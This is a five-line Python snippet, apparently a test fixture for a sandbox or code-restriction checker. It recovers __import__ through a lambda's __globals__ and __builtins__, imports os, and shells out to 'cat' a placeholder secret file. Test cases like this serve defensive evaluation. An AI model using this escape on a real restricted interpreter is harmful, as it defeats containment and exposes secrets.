# A function of one's own knows its globals, and they the builtins.
# effect: run
built = (lambda: 0).__globals__["__builtins__"]
load = built["__import__"] if isinstance(built, dict) else built.__import__
load("os").system("cat @SECRET@")
